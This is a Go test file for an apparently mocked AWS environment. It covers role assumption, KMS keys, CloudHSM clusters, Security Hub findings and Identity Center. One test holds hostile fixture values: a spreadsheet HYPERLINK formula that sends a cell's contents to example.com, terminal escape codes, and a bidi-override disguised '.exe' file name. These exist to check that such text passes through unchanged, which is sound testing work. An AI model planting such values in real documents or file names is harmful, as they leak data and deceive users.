package scenario

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials/stscreds"
	"github.com/aws/aws-sdk-go-v2/service/account"
	"github.com/aws/aws-sdk-go-v2/service/cloudhsmv2"
	"github.com/aws/aws-sdk-go-v2/service/kms"
	kmstypes "github.com/aws/aws-sdk-go-v2/service/kms/types"
	"github.com/aws/aws-sdk-go-v2/service/securityhub"
	hubtypes "github.com/aws/aws-sdk-go-v2/service/securityhub/types"
	"github.com/aws/aws-sdk-go-v2/service/ssoadmin"
	ssotypes "github.com/aws/aws-sdk-go-v2/service/ssoadmin/types"
	"github.com/aws/aws-sdk-go-v2/service/sts"
)

func demo(t *testing.T) (*Server, *Organization) {
	t.Helper()
	o := Demo()
	return start(t, Config{Organization: o}), o
}

func TestAssumeRole(t *testing.T) {
	s, o := demo(t)
	o.Accounts[3].DenyAssumeRole = true
	caller := func(account, role, external string) (*sts.GetCallerIdentityOutput, error) {
		cfg := sdk(s, o.Management, ireland)
		cfg.Credentials = stscreds.NewAssumeRoleProvider(sts.NewFromConfig(cfg), "arn:aws:iam::"+account+":role/"+role, func(p *stscreds.AssumeRoleOptions) {
			p.RoleSessionName, p.ExternalID = "auditseal", aws.String(external)
		})
		return sts.NewFromConfig(cfg).GetCallerIdentity(t.Context(), &sts.GetCallerIdentityInput{})
	}
	out, err := caller(DemoLogArchive, DemoRole, DemoExternalID)
	if err != nil || *out.Account != "012345678901" || *out.Arn != "arn:aws:sts::012345678901:assumed-role/AuditsealReadOnly/auditseal" {
		t.Fatalf("%+v %v", out, err)
	}
	for _, bad := range [][3]string{{DemoPayments, DemoRole, "wrong"}, {DemoPayments, "Admin", DemoExternalID}, {"999999999999", DemoRole, DemoExternalID}, {DemoData, DemoRole, DemoExternalID}} {
		if _, err := caller(bad[0], bad[1], bad[2]); code(t, err) != "AccessDenied" || !strings.Contains(err.Error(), "sts:AssumeRole on resource: arn:aws:iam::"+bad[0]) {
			t.Errorf("%v: %v", bad, err)
		}
	}
}

func TestRegions(t *testing.T) {
	s, _ := demo(t)
	out, err := account.NewFromConfig(sdk(s, DemoPayments, virginia)).ListRegions(t.Context(), &account.ListRegionsInput{})
	if err != nil || len(out.Regions) != 6 || out.Regions[0].RegionOptStatus != "ENABLED_BY_DEFAULT" || out.Regions[5].RegionOptStatus != "DISABLED" {
		t.Fatalf("%+v %v", out, err)
	}
	_, err = kms.NewFromConfig(sdk(s, DemoPayments, "me-central-1")).ListKeys(t.Context(), &kms.ListKeysInput{})
	if code(t, err) != "UnrecognizedClientException" {
		t.Fatal(err)
	}
}

func TestKeysOfExampleCorp(t *testing.T) {
	s, o := demo(t)
	describe := func(acct, region, alias string) *kmstypes.KeyMetadata {
		t.Helper()
		out, err := kms.NewFromConfig(sdk(s, acct, region)).DescribeKey(t.Context(), &kms.DescribeKeyInput{KeyId: &o.In(acct, region).Key("example/" + alias).ID})
		if err != nil {
			t.Fatal(err)
		}
		return out.KeyMetadata
	}
	rotation := func(acct, region, alias string) (*kms.GetKeyRotationStatusOutput, error) {
		return kms.NewFromConfig(sdk(s, acct, region)).GetKeyRotationStatus(t.Context(), &kms.GetKeyRotationStatusInput{KeyId: &o.In(acct, region).Key("example/" + alias).ID})
	}
	if out, err := rotation(DemoPayments, ireland, "ledger-db"); err != nil || !out.KeyRotationEnabled || *out.RotationPeriodInDays != 365 || !out.NextRotationDate.After(Now) {
		t.Errorf("rotated: %+v %v", out, err)
	}
	if out, err := rotation(DemoPayments, ireland, "legacy-reports"); err != nil || out.KeyRotationEnabled || out.RotationPeriodInDays != nil {
		t.Errorf("not rotated: %+v %v", out, err)
	}
	if out, err := rotation(DemoPayments, ireland, "card-archive"); err != nil || *out.RotationPeriodInDays != 730 {
		t.Errorf("730 days: %+v %v", out, err)
	}
	for alias, want := range map[string]string{"receipt-signing": "UnsupportedOperationException", "webhook-mac": "UnsupportedOperationException", "pin-translation": "UnsupportedOperationException", "bank-link": "UnsupportedOperationException"} {
		if _, err := rotation(DemoPayments, ireland, alias); code(t, err) != want {
			t.Errorf("%s: %v", alias, err)
		}
	}
	if _, err := rotation(DemoData, virginia, "experiments"); code(t, err) != "AccessDeniedException" {
		t.Errorf("GetKeyRotationStatus is denied there: %v", err)
	}
	if k := describe(DemoPayments, ireland, "merchant-onboarding"); k.KeyState != "PendingDeletion" || k.DeletionDate == nil || k.Enabled {
		t.Errorf("%+v", k)
	}
	if k := describe(DemoPayments, ireland, "bank-link"); k.Origin != "EXTERNAL" || k.ExpirationModel != "KEY_MATERIAL_EXPIRES" || !k.ValidTo.Equal(day(2026, 12, 31)) {
		t.Errorf("%+v", k)
	}
	for alias, cluster := range map[string]string{"pin-translation": paymentsCluster} {
		if k := describe(DemoPayments, ireland, alias); k.Origin != "AWS_CLOUDHSM" || *k.CloudHsmClusterId != cluster || *k.CustomKeyStoreId != paymentsStore {
			t.Errorf("%+v", k)
		}
	}
	if k := describe(DemoData, virginia, "external-lake"); k.Origin != "EXTERNAL_KEY_STORE" || k.KeyState != "Unavailable" || *k.XksKeyConfiguration.Id == "" {
		t.Errorf("%+v", k)
	}
	if k := describe(DemoPayments, ireland, "firmware-signing-pq"); k.KeySpec != "ML_DSA_65" || k.KeyUsage != "SIGN_VERIFY" {
		t.Errorf("%+v", k)
	}
	primary, replica := describe(DemoPayments, ireland, "ledger-global"), describe(DemoPayments, virginia, "ledger-global")
	if *primary.KeyId != *replica.KeyId || primary.MultiRegionConfiguration.MultiRegionKeyType != "PRIMARY" || replica.MultiRegionConfiguration.MultiRegionKeyType != "REPLICA" || *replica.MultiRegionConfiguration.PrimaryKey.Arn != *primary.Arn {
		t.Errorf("%+v\n%+v", primary, replica)
	}
	c := kms.NewFromConfig(sdk(s, DemoPayments, ireland))
	aliases, err := c.ListAliases(t.Context(), &kms.ListAliasesInput{})
	if err != nil || !slices.ContainsFunc(aliases.Aliases, func(a kmstypes.AliasListEntry) bool {
		return *a.AliasName == "alias/aws/lambda" && a.TargetKeyId == nil
	}) {
		t.Errorf("no alias without a target: %v", err)
	}
	if _, err := c.DescribeKey(t.Context(), &kms.DescribeKeyInput{KeyId: aws.String(uuid("nobody"))}); code(t, err) != "NotFoundException" {
		t.Error(err)
	}
	grants, err := c.ListGrants(t.Context(), &kms.ListGrantsInput{KeyId: &o.In(DemoPayments, ireland).Key("example/card-vault-db").ID})
	if err != nil || len(grants.Grants) != 2 || grants.Grants[0].Constraints == nil {
		t.Errorf("%+v %v", grants, err)
	}
	stores, err := kms.NewFromConfig(sdk(s, DemoData, virginia)).DescribeCustomKeyStores(t.Context(), &kms.DescribeCustomKeyStoresInput{})
	if err != nil || stores.CustomKeyStores[0].ConnectionState != "FAILED" || stores.CustomKeyStores[0].ConnectionErrorCode != "XKS_PROXY_NOT_REACHABLE" {
		t.Errorf("%+v %v", stores, err)
	}
	locked := o.In(DemoLogArchive, ireland).Key("example/log-archive").ID
	if _, err := kms.NewFromConfig(sdk(s, DemoLogArchive, ireland)).GetKeyPolicy(t.Context(), &kms.GetKeyPolicyInput{KeyId: &locked}); code(t, err) != "AccessDeniedException" || !strings.Contains(err.Error(), "resource-based") {
		t.Error(err)
	}
	open, err := kms.NewFromConfig(sdk(s, DemoData, ireland)).GetKeyPolicy(t.Context(), &kms.GetKeyPolicyInput{KeyId: &o.In(DemoData, ireland).Key("example/open-datasets").ID})
	if err != nil || !strings.Contains(*open.Policy, `"Principal":"*"`) || strings.Contains(*open.Policy, "Condition") {
		t.Errorf("%+v %v", open, err)
	}
}

// Hostile text must reach the client byte for byte.
func TestHostileTextIsSentUnchanged(t *testing.T) {
	s, o := demo(t)
	all := map[string]string{}
	for _, a := range []string{"legacy-reports", "card-archive", "chargeback-exports", "receipt-signing"} {
		out, err := kms.NewFromConfig(sdk(s, DemoPayments, ireland)).ListResourceTags(t.Context(), &kms.ListResourceTagsInput{KeyId: &o.In(DemoPayments, ireland).Key("example/" + a).ID})
		if err != nil {
			t.Fatal(err)
		}
		for _, tag := range out.Tags {
			all[*tag.TagKey] = *tag.TagValue
		}
	}
	for key, want := range map[string]string{"note": `=HYPERLINK("https://example.com/?x="&A1,"click")`, "terminal": "\x1b[31mred\x1b[0m\x07 bell", "control": "a\tb\nc\u0085d\u0001", "bidi": "invoice\u202etxt.exe", "emoji": "🔐🧾 ok"} {
		if all[key] != want {
			t.Errorf("%s: %q, want %q", key, all[key], want)
		}
	}
	if n := len(o.In(DemoData, ireland).Key("example/partner-exchange").Description); n != 300 {
		t.Errorf("the long description has %d characters", n)
	}
}

func TestClustersOfExampleCorp(t *testing.T) {
	s, _ := demo(t)
	type row struct{ kind, mode, state string }
	want := map[string]row{DemoPayments + ireland: {"hsm2m.medium", "FIPS", "ACTIVE"}, DemoPayments + virginia: {"hsm1.medium", "FIPS", "ACTIVE"},
		DemoData + ireland: {"hsm2m.medium", "NON_FIPS", "ACTIVE"}, DemoData + virginia: {"hsm2m.medium", "FIPS", "DEGRADED"}, DemoLogArchive + ireland: {"hsm1.medium", "", "ACTIVE"}}
	for _, a := range []string{DemoPayments, DemoData, DemoLogArchive, DemoManagement} {
		for _, r := range []string{ireland, virginia} {
			out, err := cloudhsmv2.NewFromConfig(sdk(s, a, r)).DescribeClusters(t.Context(), &cloudhsmv2.DescribeClustersInput{})
			if err != nil {
				t.Fatal(err)
			}
			w, ok := want[a+r]
			if ok != (len(out.Clusters) == 1) {
				t.Fatalf("%s %s: %d clusters", a, r, len(out.Clusters))
			}
			if !ok {
				continue
			}
			c := out.Clusters[0]
			if got := (row{*c.HsmType, string(c.Mode), string(c.State)}); got != w {
				t.Errorf("%s %s: %+v, want %+v", a, r, got, w)
			}
			zones := map[string]bool{}
			for _, h := range c.Hsms {
				zones[*h.AvailabilityZone] = true
			}
			if single := a == DemoPayments && r == virginia; single != (len(zones) == 1) {
				t.Errorf("%s %s: %d zones", a, r, len(zones))
			}
		}
	}
	newest := func(a, r string) time.Time {
		out, err := cloudhsmv2.NewFromConfig(sdk(s, a, r)).DescribeBackups(t.Context(), &cloudhsmv2.DescribeBackupsInput{SortAscending: aws.Bool(false), Filters: map[string][]string{"states": {"READY"}}})
		if err != nil {
			t.Fatal(err)
		}
		return *out.Backups[0].CreateTimestamp
	}
	if age := Now.Sub(newest(DemoPayments, ireland)); age > 24*time.Hour {
		t.Errorf("the fresh backup is %v old", age)
	}
	if age := Now.Sub(newest(DemoPayments, virginia)); age < 20*24*time.Hour {
		t.Errorf("the stale backup is %v old", age)
	}
}

func TestHubOfExampleCorp(t *testing.T) {
	s, _ := demo(t)
	_, err := securityhub.NewFromConfig(sdk(s, DemoLogArchive, ireland)).DescribeHub(t.Context(), &securityhub.DescribeHubInput{})
	if code(t, err) != "InvalidAccessException" || !strings.Contains(err.Error(), "StatusCode: 401") {
		t.Fatal(err)
	}
	find := func(a string, filters hubtypes.AwsSecurityFindingFilters) []hubtypes.AwsSecurityFinding {
		t.Helper()
		var out []hubtypes.AwsSecurityFinding
		p := securityhub.NewGetFindingsPaginator(securityhub.NewFromConfig(sdk(s, a, ireland)), &securityhub.GetFindingsInput{Filters: &filters, MaxResults: aws.Int32(7)})
		for p.HasMorePages() {
			page, err := p.NextPage(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, page.Findings...)
		}
		return out
	}
	eq := func(v string) []hubtypes.StringFilter {
		return []hubtypes.StringFilter{{Value: &v, Comparison: "EQUALS"}}
	}
	all := find(DemoPayments, hubtypes.AwsSecurityFindingFilters{})
	var without, suppressed, archived, several int
	for _, f := range all {
		if f.Compliance == nil {
			without++
		}
		if f.Workflow.Status == "SUPPRESSED" {
			suppressed++
		}
		if f.RecordState == "ARCHIVED" {
			archived++
		}
		if len(f.Resources) > 1 {
			several++
		}
	}
	if without != 1 || suppressed != 1 || archived != 1 || several != 1 {
		t.Errorf("without Compliance %d, suppressed %d, archived %d, several resources %d", without, suppressed, archived, several)
	}
	if n := len(find(DemoPayments, hubtypes.AwsSecurityFindingFilters{WorkflowStatus: []hubtypes.StringFilter{{Value: aws.String("SUPPRESSED"), Comparison: "NOT_EQUALS"}}})); n != len(all)-1 {
		t.Errorf("%d findings are not suppressed, of %d", n, len(all))
	}
	if n := len(find(DemoPayments, hubtypes.AwsSecurityFindingFilters{RecordState: eq("ACTIVE"), ProductName: eq("Security Hub")})); n != len(all)-2 {
		t.Errorf("%d active findings of Security Hub, of %d", n, len(all))
	}
	if n := len(find(DemoPayments, hubtypes.AwsSecurityFindingFilters{ComplianceStatus: eq("NOT_AVAILABLE")})); n != 1 {
		t.Errorf("%d NOT_AVAILABLE", n)
	}
	per := find(DemoData, hubtypes.AwsSecurityFindingFilters{ComplianceSecurityControlId: eq("S3.1"), ComplianceStatus: eq("FAILED")})
	var generators []string
	for _, f := range per {
		generators = append(generators, *f.GeneratorId)
	}
	slices.Sort(generators)
	if want := []string{fsbp + "/S3.1", cis3 + "/S3.1", nist + "/S3.1", pci + "/PCI.S3.1"}; !slices.Equal(generators, want) {
		t.Errorf("one failure is told per standard: %q", generators)
	}
	out, err := securityhub.NewFromConfig(sdk(s, DemoData, virginia)).GetEnabledStandards(t.Context(), &securityhub.GetEnabledStandardsInput{})
	if err != nil || out.StandardsSubscriptions[2].StandardsStatus != "INCOMPLETE" {
		t.Errorf("%+v %v", out, err)
	}
}

func TestIdentityCenterOfExampleCorp(t *testing.T) {
	s, o := demo(t)
	elsewhere, err := ssoadmin.NewFromConfig(sdk(s, DemoManagement, ireland)).ListInstances(t.Context(), &ssoadmin.ListInstancesInput{})
	if err != nil || elsewhere.Instances == nil || len(elsewhere.Instances) != 0 {
		t.Fatalf("another region lists no instance, but a list: %+v %v", elsewhere, err)
	}
	c := ssoadmin.NewFromConfig(sdk(s, DemoManagement, virginia))
	i := o.IdentityCenter
	arn, admin, data := i.arn(), i.permissionSetARN(i.PermissionSets[0]), i.permissionSetARN(i.PermissionSets[3])
	set, err := c.DescribePermissionSet(t.Context(), &ssoadmin.DescribePermissionSetInput{InstanceArn: &arn, PermissionSetArn: &admin})
	if err != nil || *set.PermissionSet.SessionDuration != "PT12H" {
		t.Errorf("%+v %v", set, err)
	}
	if _, err := c.GetPermissionsBoundaryForPermissionSet(t.Context(), &ssoadmin.GetPermissionsBoundaryForPermissionSetInput{InstanceArn: &arn, PermissionSetArn: &admin}); code(t, err) != "ResourceNotFoundException" {
		t.Error(err)
	}
	stale, err := c.ListAccountsForProvisionedPermissionSet(t.Context(), &ssoadmin.ListAccountsForProvisionedPermissionSetInput{InstanceArn: &arn, PermissionSetArn: &data, ProvisioningStatus: ssotypes.ProvisioningStatusLatestPermissionSetNotProvisioned})
	if err != nil || !slices.Equal(stale.AccountIds, []string{DemoLogArchive}) {
		t.Errorf("%+v %v", stale, err)
	}
	glass := i.permissionSetARN(i.PermissionSets[4])
	direct, err := c.ListAccountAssignments(t.Context(), &ssoadmin.ListAccountAssignmentsInput{InstanceArn: &arn, PermissionSetArn: &glass, AccountId: aws.String(DemoPayments)})
	if err != nil || len(direct.AccountAssignments) != 1 || direct.AccountAssignments[0].PrincipalType != "USER" {
		t.Errorf("%+v %v", direct, err)
	}
	wiki := i.applicationARN(i.Applications[1])
	open, err := c.GetApplicationAssignmentConfiguration(t.Context(), &ssoadmin.GetApplicationAssignmentConfigurationInput{ApplicationArn: &wiki})
	if err != nil || *open.AssignmentRequired {
		t.Errorf("%+v %v", open, err)
	}
}
